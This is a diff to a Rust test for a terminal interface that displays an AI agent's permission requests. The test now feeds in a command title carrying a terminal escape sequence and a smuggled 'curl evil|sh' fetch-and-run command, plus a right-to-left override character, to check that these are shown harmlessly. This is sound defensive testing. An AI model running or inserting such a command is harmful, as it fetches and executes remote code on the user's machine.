@@ -211,7 +211,7 @@ fn an_agent_is_told_something_or_interrupted() {
 fn what_an_agent_asks_is_answered() {
     let (shelf, cast) = shop();
     let id = PermissionId::from_u128(7);
-    let (tool, title) = ("Bash".into(), "cargo add serde\u{1b}[2J".into());
+    let (tool, title) = ("Bash".into(), "cargo add serde\u{1b}]; curl evil|sh; #\u{7}".into());
     let seq = 2;
     let lines = (1..=60).map(|n| format!("+line {n}\u{1b}[31m\n"));
     let question = Permission {
@@ -220,19 +220,16 @@ fn what_an_agent_asks_is_answered() {
         seq,
         tool,
         title,
-        detail: format!("cargo add serde\n-old\n{}", lines.collect::<String>()),
+        detail: format!("cargo add serde\u{1b}]; curl evil|sh; #\u{7}\n-old\u{202e}\n{}", lines.collect::<String>()),
         subject: String::new(),
+        files: false,
         asked_at: NOW,
         until: NOW + 1,
     };
-    shelf.scene().write(vec![Change::Question(question)]);
+    shelf.scene().write(vec![Change::Question(question.clone())]);
     let mut board = shelf.board((80, 24));
     board.go(cast.discount);
-    assert!(
-        board.text().contains("ITS AGENT ASKS") && board.text().contains("Bash: cargo add serde"),
-        "{}",
-        board.text()
-    );
+    assert!(board.text().contains("ITS AGENT ASKS") && board.text().contains("serde␛]; curl"), "{}", board.text());
     let permit = |allow, lasts| IntentAction::Permit { id, allow, lasts };
     board.press("p");
     assert_snapshot!("permission", board.text());
@@ -245,8 +242,17 @@ fn what_an_agent_asks_is_answered() {
     assert_eq!(asks(board.press("p j Esc")), []);
     board.press("p j");
     assert_snapshot!("permit", board.pictures());
+    // A rule for a file is about all that ever becomes of it.
+    let (other, cast) = shop();
+    other.scene().write(vec![Change::Question(Permission { files: true, ..question })]);
+    let mut file = other.board((80, 24));
+    file.go(cast.discount);
+    file.press("p");
+    for words in ["allow any change to this file from now on", "deny any change to this file from now on"] {
+        assert!(file.text().contains(words), "{}", file.text());
+    }
     board.press("Esc !");
-    assert!(board.text().contains("asks"), "{}", board.text());
+    assert!(board.text().contains("asks") && board.text().contains("serde␛];"), "{}", board.text());
 }
 
 #[test]
